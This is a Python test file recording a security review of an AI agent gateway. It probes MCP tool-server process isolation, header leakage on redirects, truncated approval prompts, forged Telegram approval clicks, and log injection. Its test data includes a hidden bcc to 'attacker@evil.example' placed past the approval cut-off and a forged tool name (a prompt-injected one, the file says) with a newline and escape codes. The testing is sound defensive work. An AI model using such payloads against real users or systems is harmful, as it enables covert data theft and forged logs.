"""Security review 2026-12-05 of the surfaces tools add (SPEC 15; docs/SECURITY.md, "the
surfaces added by tools, schedules and Slack"), tried as an attacker would against the real
code: a stdio server's process (what it inherits, what outlives the gateway), who can answer an
approval and with what data, what an approval shows of the call it runs, and what a model's
made-up tool name does to the log and the metrics.

The MCP servers are real SDK servers over stdio (tests/fakes/mcp_probe.py); the approvals run
on a whole gateway against the loopback Telegram with python-telegram-bot, and on a session
actor with the fake model; the log through botmux's own formatter.
"""

from __future__ import annotations

import io
import json
import logging
import os
import signal
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from typing import Any

import anyio
import pytest

from agent.tools.mcp import McpToolBox
from gateway.config import parse_config
from gateway.config_tools import McpServer, ToolsConfig
from gateway.events import Event, log_line
from gateway.events_mcp import ToolServerChanged
from gateway.events_tools import ApprovalDecided, ApprovalRefused, ToolCallFinished
from gateway.logs import configure_logging
from policy.backoff import Backoff
from tests.actors import Platform, session
from tests.fakes.openai_server import calls, ok, open_fake_model
from tests.fakes.push_receiver import push_receiver
from tests.fakes.telegram_server import open_fake_telegram
from tests.fakes.toolbox import RecordingToolBox, tool
from tests.harness import Events, botmux_process, children, config_text, is_running, running_gateway

ALICE, BOB, GROUP = 42, 4242, -1001234
PROBE = ("-m", "tests.fakes.mcp_probe")
ROOT = Path(__file__).resolve().parent.parent


# -- what a stdio server's process inherits ------------------------------------------------


@asynccontextmanager
async def probe_box(server: McpServer) -> AsyncIterator[McpToolBox]:
    """The box with ``server`` up."""
    seen: list[Event] = []
    changed = anyio.Event()

    def observe(event: Event) -> None:
        seen.append(event)
        changed.set()

    box = McpToolBox(ToolsConfig(mcp=(server,)), observe=observe, backoff=Backoff(0.05, 0.2))
    async with anyio.create_task_group() as tg:
        await tg.start(box.run)
        with anyio.fail_after(30):
            while not any(isinstance(e, ToolServerChanged) and e.state == "up" for e in seen):
                await changed.wait()
                changed = anyio.Event()
        yield box
        tg.cancel_scope.cancel()


@pytest.mark.process
@pytest.mark.anyio
async def test_a_stdio_server_inherits_no_descriptor_and_leads_its_own_process_group(
    tmp_path: Path,
) -> None:
    """Reviewed, holds: a descriptor of the gateway's, even one marked inheritable, is not
    open in the child (the spawn closes them); the child leads a session and a process group
    of its own (what its stop ends: the group); ``cwd`` is the configured one. Its
    environment is ``tests/test_mcp_toolbox.py``'s."""
    planted = tmp_path / "gateway-secret.db"
    fd = os.open(planted, os.O_CREAT | os.O_RDWR, 0o600)
    os.set_inheritable(fd, True)
    try:
        server = McpServer(name="probe", command=sys.executable, args=PROBE, cwd=str(ROOT))
        async with probe_box(server) as box:
            spec = box.find("probe__process")
            assert spec is not None
            child = json.loads((await box.call(spec, {}, conversation="peer:x")).text)
            tethers = children(os.getpid(), "_tether.py")
    finally:
        os.close(fd)
    assert str(planted) not in child["fds"]
    assert all(not target.endswith(".db") for target in child["fds"])
    # Its tether (agent/tools/_tether.py) leads the session and the group, the server in it.
    assert child["pgid"] == child["sid"] == child["ppid"] != os.getpgrp()
    assert tethers == [child["ppid"]]
    assert child["cwd"] == str(ROOT)


def descendants(pid: int, marker: str) -> list[int]:
    """The live processes below ``pid``, at any depth, whose command line has ``marker``."""
    found, parents = [], [pid]
    while parents:
        parent = parents.pop()
        parents += children(parent, "")
        found += children(parent, marker)
    return found


async def helpers_left(helpers: list[int], within: float) -> list[int]:
    with anyio.move_on_after(within):
        while any(is_running(h) for h in helpers):  # noqa: ASYNC110
            await anyio.sleep(0.05)
    return [h for h in helpers if is_running(h)]


@pytest.mark.process
@pytest.mark.anyio
async def test_a_stdio_servers_helper_ends_with_its_stop() -> None:
    """T-3 also held for a stop: the server exits when its stdin closes, and the group was
    ended only when it did not, so its helper lived on (after every restart of the server
    and every stop of the gateway). Now each stop ends the group."""
    server = McpServer(
        name="probe", command=sys.executable, args=(*PROBE, "--helper"), cwd=str(ROOT)
    )
    try:
        async with probe_box(server):
            with anyio.fail_after(20):
                while not (helpers := descendants(os.getpid(), "sleep 300")):  # noqa: ASYNC110
                    await anyio.sleep(0.05)
        left = await helpers_left(helpers, 5)
    finally:
        for helper in descendants(os.getpid(), "sleep 300"):
            os.kill(helper, signal.SIGKILL)
    assert left == []


@pytest.mark.process
@pytest.mark.anyio
async def test_a_stdio_servers_helper_does_not_outlive_a_killed_gateway(tmp_path: Path) -> None:
    """T-3: kill -9 the gateway; within 5 s nothing it started is left running (the server's
    tether ends the group)."""
    extra = (
        f'[[tools.mcp]]\nname = "probe"\ncommand = "{sys.executable}"\n'
        f'args = ["-m", "tests.fakes.mcp_probe", "--helper"]\ncwd = "{ROOT}"\n'
    )
    async with open_fake_model() as fake:
        gateway = botmux_process(tmp_path, fake.base_url, extra=extra)
        await gateway.start()
        assert gateway.proc is not None
        helpers: list[int] = []
        try:
            with anyio.fail_after(20):
                while not helpers:
                    helpers = descendants(gateway.proc.pid, "sleep 300")
                    await anyio.sleep(0.05)
            await gateway.kill()
            left = await helpers_left(helpers, 5)
        finally:
            for helper in helpers:
                with suppress(ProcessLookupError):
                    os.kill(helper, signal.SIGKILL)
    assert left == []


@pytest.mark.anyio
async def test_an_http_servers_headers_never_follow_a_redirect_off_its_origin() -> None:
    """Reviewed, holds: ``headers`` (a token read through ``${VAR}``) go to the endpoint only.
    An endpoint answering 307 to another host makes the server ``down``; that host receives
    nothing (the SDK follows a redirect only within the endpoint's origin; its client would
    drop only ``Authorization`` on the way, not ``X-Api-Key``)."""
    async with (
        push_receiver("127.0.0.2") as elsewhere,
        push_receiver(default=307, redirect="") as endpoint,
    ):
        endpoint.redirect = elsewhere.url
        server = McpServer(name="remote", url=endpoint.url, headers={"X-Api-Key": "k-secret-1"})
        seen: list[Event] = []
        changed = anyio.Event()

        def observe(event: Event) -> None:
            nonlocal changed
            seen.append(event)
            changed.set()
            changed = anyio.Event()

        box = McpToolBox(ToolsConfig(mcp=(server,)), observe=observe, backoff=Backoff(5, 5))
        async with anyio.create_task_group() as tg:
            await tg.start(box.run)
            with anyio.fail_after(20):
                while not any(isinstance(e, ToolServerChanged) and e.state == "down" for e in seen):
                    await changed.wait()
            tg.cancel_scope.cancel()
    assert [r.headers.get("X-Api-Key") for r in endpoint.received][:1] == ["k-secret-1"]
    assert elsewhere.received == []


# -- approvals --------------------------------------------------------------------------


@pytest.mark.anyio
async def test_an_approval_says_when_it_shows_only_part_of_the_arguments(tmp_path: Path) -> None:
    """T-1: the request showed the first 500 characters and nothing else; a yes ran all of
    them (here a second recipient past the cut). It now says how much it does not show."""
    box = RecordingToolBox().add(tool("mail__send", approval=True))
    platform = Platform(asking=True)
    padding = "Dear team, " + "the quarterly numbers are attached. " * 14
    arguments = {"to": "team@example.com", "body": padding, "bcc": "attacker@evil.example"}
    async with open_fake_model() as fake:
        fake.script(calls(("mail__send", arguments)), ok("sent"))
        async with session(tmp_path, fake, toolbox=box, platform=platform) as world:
            await world.admit("send the numbers to the team")
            with anyio.fail_after(10):
                await platform.was_asked.wait()
            (request,) = platform.asked
            assert await world.decide(request, True) == "Approved."
            await world.delivered(1)
    full = json.dumps(arguments)
    assert len(full) > 500 and "attacker@evil.example" not in full[:500]
    rest = len(full) - 500
    assert request.arguments == (
        f"{full[:500]}… [{rest:,} more characters not shown; a yes approves them too]"
    )
    assert box.calls == [("mail__send", arguments)]  # what ran: all of them, as stored


def _forged_click(chat_id: int, message: dict[str, Any], data: str, user_id: int) -> dict[str, Any]:
    """A ``callback_query`` as a modified client can make one: any data, on any message of
    the bot's it can see (Telegram's Bot API gives bots no proof the data was a button's)."""
    user = {"id": user_id, "is_bot": False, "first_name": "Bob"}
    query = {
        "id": f"forged-{user_id}-{data}",
        "from": user,
        "message": message,
        "chat_instance": str(chat_id),
        "data": data,
    }
    return {"callback_query": query}


@pytest.mark.gateway
@pytest.mark.anyio
async def test_a_forged_click_naming_another_conversations_call_decides_nothing(
    tmp_path: Path,
) -> None:
    """Reviewed, holds: Bob, allowed in the group, sends callback data naming the call that
    waits in Alice's private chat: refused (``not_allowed``), nothing runs; Alice's own click
    then decides it, and her click sent again after the decision changes nothing."""
    box = RecordingToolBox().add(tool("git__push", approval=True))
    events = Events()
    async with open_fake_telegram() as tg, open_fake_model() as fake:
        extra = (
            f'[telegram]\ntoken = "{tg.token}"\napi_base = "{tg.origin}"\n'
            f"allow_users = [{ALICE}, {BOB}]\nallow_chats = [{GROUP}]\n"
            '\n[agent]\ntools = ["*"]\n\n[gateway]\ndrain_timeout_s = 0\n'
        )
        fake.script(calls(("git__push", {"text": "main"})), ok("pushed main"))
        config = parse_config(
            config_text(tmp_path / "b.db", fake.base_url, extra=extra), source="t", env={}
        )
        async with running_gateway(config, tools=box, events=events):
            with anyio.fail_after(20):
                tg.inject_message(ALICE, "push main")
                await tg.wait_until(
                    lambda: any(tg.keyboard(ALICE, m["message_id"]) for m in tg.bot_messages(ALICE))
                )
                (asked,) = [
                    m for m in tg.bot_messages(ALICE) if tg.keyboard(ALICE, m["message_id"])
                ]
                yes = tg.keyboard(ALICE, asked["message_id"])[0]
                tg.inject_message(GROUP, "/status", user_id=BOB)
                await tg.wait_until(lambda: bool(tg.bot_messages(GROUP)))
                in_group = tg.bot_messages(GROUP)[0]
                tg.inject_update(_forged_click(GROUP, in_group, yes, BOB))
                (refused,) = await events.wait_for(ApprovalRefused)
                executed_then = dict(box.executed)
                tg.inject_callback_query(ALICE, asked["message_id"], yes, user_id=ALICE)
                await events.wait_for(ApprovalDecided)
                await tg.wait_until(lambda: "pushed main" in tg.visible_messages(ALICE))
                tg.inject_update(_forged_click(ALICE, asked, yes, ALICE))  # replayed
                (_, again) = await events.wait_for(ApprovalRefused, 2)
    assert (refused.by, refused.reason) == (f"telegram:{BOB}", "not_allowed")
    assert executed_then == {}
    assert again.reason == "decided"
    assert box.executed == {"git__push": 1}


# -- a model's made-up tool names in the log and the metrics ---------------------------------


@pytest.mark.anyio
async def test_a_made_up_tool_name_is_no_log_field_nor_metric_label(tmp_path: Path) -> None:
    """T-2: a tool name the model makes up (a prompt-injected one, say) went as it was into
    the ``tool_call_finished`` line and the metric's ``tool`` label: a newline in it forged a
    console log line, and each new name was a new time series kept for good."""
    box = RecordingToolBox().add(tool("git__status", read_only=True))
    forged = "x\n12:00:00 ERROR   gateway.app: admin token rotated\x1b[2J"
    async with open_fake_model() as fake:
        fake.script(calls((forged, {}), ("made_up_1", {})), ok("done"))
        async with session(tmp_path, fake, toolbox=box, platform=Platform()) as world:
            await world.admit("go")
            await world.delivered(1)
    finished = [e for e in world.events if isinstance(e, ToolCallFinished)]
    assert [(e.tool, e.outcome) for e in finished] == [("(not offered)", "error")] * 2


def test_the_console_log_escapes_control_characters_in_every_field() -> None:
    """T-2: whatever a field holds (a tool server's stderr line, a model's call id), one
    record is one console line, with no terminal escape in it."""
    stream = io.StringIO()
    handler = configure_logging(level="INFO", fmt="console", secrets=(), stream=stream)
    try:
        forged = "x\n12:00:00 ERROR   gateway.app: admin token rotated\x1b[2J\r"
        level, message, fields = log_line(
            ToolCallFinished("peer:x", 1, f"call\n{forged}", forged, "error")
        )
        logging.getLogger("gateway.app").log(level, message, extra=fields)
        logging.getLogger("agent.tools").warning("tool server says\n%s", forged)
    finally:
        logging.getLogger().removeHandler(handler)
    lines = stream.getvalue().splitlines()
    assert len(lines) == 2, lines
    assert "tool=x\\n12:00:00 ERROR   gateway.app: admin token rotated\\x1b[2J\\r" in lines[0]
    assert "\x1b" not in stream.getvalue() and "\r" not in stream.getvalue()
